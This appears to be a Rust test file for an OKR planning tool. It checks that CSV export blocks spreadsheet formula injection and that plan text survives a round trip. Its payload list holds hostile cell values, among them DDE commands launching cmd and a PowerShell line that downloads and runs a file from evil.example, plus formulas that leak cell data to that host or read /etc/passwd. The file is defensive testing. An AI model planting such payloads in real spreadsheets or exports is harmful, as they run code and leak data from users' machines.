//! No table has a formula in it, whatever stands in the plan.

use okr_core::model::{
    CheckIn, ElementId, Initiative, Inline, KeyResult, Link, Objective, Plan, Section, parse_date,
};
use okr_render::ReadOptions;
use serde_json::Value;

use super::schema::full_plan;
use super::{assert_same, named, written};

/// What people have put into cells to make a spreadsheet run it, and what comes near to it.
pub(crate) const PAYLOADS: &[&str] = &[
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=cmd|' /C powershell IEX(wget evil.example/x.exe)'!A0",
    "=HYPERLINK(\"http://evil.example?leak=\"&A1,\"click\")",
    "=IMPORTXML(CONCAT(\"http://evil.example?v=\",CONCATENATE(A2:E2)),\"//a\")",
    "=IMPORTDATA(\"http://evil.example\")",
    "=IMPORTFEED(\"http://evil.example\")",
    "=IMPORTHTML(\"http://evil.example\",\"table\",1)",
    "=IMPORTRANGE(\"x\",\"A1\")",
    "=IMAGE(\"http://evil.example/x.png\")",
    "=WEBSERVICE(\"http://evil.example\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "='file:///etc/passwd'#$passwd.A1",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=2+5+cmd|' /C calc'!A0",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "+SUM(A1:A9)",
    "+49 30 1234567",
    "-1+1",
    "-2+3+cmd|' /C calc'!D2",
    "-cmd|' /C calc'!A0",
    "- a dash",
    "--1",
    "-",
    "+",
    "=",
    "@",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(A1)",
    "@ada",
    "@",
    "==1",
    "=-1",
    "+=1",
    "'=1+1",
    "''=1+1",
    "'+1",
    "'-1",
    "'@x",
    "'-5%",
    "\u{a0}=1+1",
    "\u{200b}=1+1",
    "\u{feff}=1+1",
    "\u{2060}@x",
    "\u{3000}=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\"=1+1\"",
    "\"\"=1+1",
    "=\"a\"\"b\"",
    "=1,=2",
    "=1;=2",
    ";=1+1",
    ",=1+1",
    "|=1+1",
    "%0A=1+1",
    "=A1%",
    "+1.000,00",
    "-1e5",
    "-5 %",
    "+25% (a)",
    "=sum(1)|x",
    "a=1",
    "5-3",
    "-5%",
    "+5",
    "0",
];

/// A plan that has the text wherever there can be text.
pub(crate) fn plan_of(payload: &str) -> Plan {
    let line = || Inline::from_plain(payload);
    let words = || Some(payload.to_owned());
    let mut key_result = KeyResult {
        title: line(),
        id: words(),
        owner: words(),
        text: payload.to_owned(),
        ..KeyResult::default()
    };
    key_result.measure.name = Some(line());
    key_result.measure.question = Some(line());
    key_result.measure.source = Some(line());
    key_result.fields.insert("Colour".to_owned(), line());
    let initiative = Initiative {
        title: line(),
        owner: words(),
        text: payload.to_owned(),
        ..Initiative::default()
    };
    key_result.initiatives.push(initiative.clone());
    let mut check_in = CheckIn::new(parse_date("2026-10-09").expect("is a date"));
    check_in.note = Some(line());
    key_result.check_ins.push(check_in);
    let mut objective = Objective {
        title: line(),
        id: words(),
        owner: words(),
        text: payload.to_owned(),
        key_results: vec![key_result],
        initiatives: vec![initiative],
        ..Objective::default()
    };
    objective.supports.push(Link {
        text: payload.to_owned(),
        target: payload.to_owned(),
    });
    objective.fields.insert("Colour".to_owned(), line());
    let mut plan = Plan {
        name: words(),
        title: Some(line()),
        team: words(),
        owner: words(),
        template: words(),
        text: payload.to_owned(),
        objectives: vec![objective],
        ..Plan::default()
    };
    plan.sections.push(Section {
        title: line(),
        text: payload.to_owned(),
        position: 1,
    });
    plan.front_matter
        .insert("colour".to_owned(), payload.to_owned());
    plan
}

#[test]
fn no_formula_gets_into_a_table_and_every_text_comes_back() {
    let csv = named("csv");
    assert!(
        PAYLOADS
            .iter()
            .filter(|payload| !payload.chars().next().is_some_and(char::is_alphanumeric))
            .count()
            >= 50
    );
    for payload in PAYLOADS {
        let plan = plan_of(payload);
        let bytes = written(csv, &plan);
        assert_no_formula(&bytes);
        let read = (csv.read)(&bytes, &ReadOptions::default())
            .unwrap_or_else(|error| panic!("{payload:?}: {error}"));
        assert_same(&read.plan, &csv.carries.reduce(&plan), payload);
        let key_result = read
            .plan
            .key_result(ElementId::KeyResult(0, 0))
            .expect("is there");
        let plain = Inline::from_plain(payload).plain().into_owned();
        assert_eq!(key_result.title.plain(), plain);
        assert_eq!(key_result.initiatives[0].title.plain(), plain);
        assert_eq!(key_result.owner.as_deref(), Some(*payload));
    }
}

#[test]
fn no_name_of_a_field_gets_into_a_table_as_a_formula() {
    for payload in PAYLOADS {
        let mut json: Value =
            serde_json::from_slice(&written(named("json"), &full_plan())).expect("is JSON");
        json["objectives"][0]["key_results"][0]["fields"] = serde_json::json!({ *payload: "x" });
        json["front_matter"] = serde_json::json!({ *payload: "x" });
        let bytes = serde_json::to_vec(&json).expect("is JSON");
        if let Ok(read) = (named("json").read)(&bytes, &ReadOptions::default()) {
            assert_no_formula(&written(named("csv"), &read.plan));
        }
    }
}

#[test]
fn the_search_for_formulas_finds_them() {
    for cell in [
        "=1",
        "+a",
        "-a",
        "@a",
        " =1",
        "\t=1",
        "\u{a0}-x",
        "\u{200b}=1",
        "＝1",
        "-1+1",
        "\"\r\n=1\"",
    ] {
        let table = format!("a,b\r\nx,{cell}\r\n");
        assert!(formulas(table.as_bytes()).len() == 1, "{cell:?}");
    }
    assert_eq!(
        formulas("a,b\r\n-5%,'=1\r\n+3,-0.5\r\n,a=b\r\n".as_bytes()),
        [""; 0]
    );
}

/// Checks that no cell of a CSV file begins with what a spreadsheet takes for a formula.
#[track_caller]
pub(crate) fn assert_no_formula(table: &[u8]) {
    let formulas = formulas(table);
    assert!(
        formulas.is_empty(),
        "{formulas:?} in {}",
        String::from_utf8_lossy(table)
    );
}

/// Returns the cells that a spreadsheet might take for a formula: those that begin, after what does not
/// show, with a formula's sign, and are no plain number.
pub(crate) fn formulas(table: &[u8]) -> Vec<String> {
    let is_unseen = |c: char| {
        c.is_whitespace()
            || c.is_control()
            || matches!(c, '\u{ad}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2064}' | '\u{feff}')
    };
    let is_number = |cell: &str| {
        cell.strip_suffix('%')
            .unwrap_or(cell)
            .parse::<rust_decimal::Decimal>()
            .is_ok()
    };
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(table);
    let mut found = Vec::new();
    for record in reader.records() {
        for cell in &record.expect("is CSV") {
            if cell
                .trim_start_matches(is_unseen)
                .starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])
                && !is_number(cell)
            {
                found.push(cell.to_owned());
            }
        }
    }
    found
}
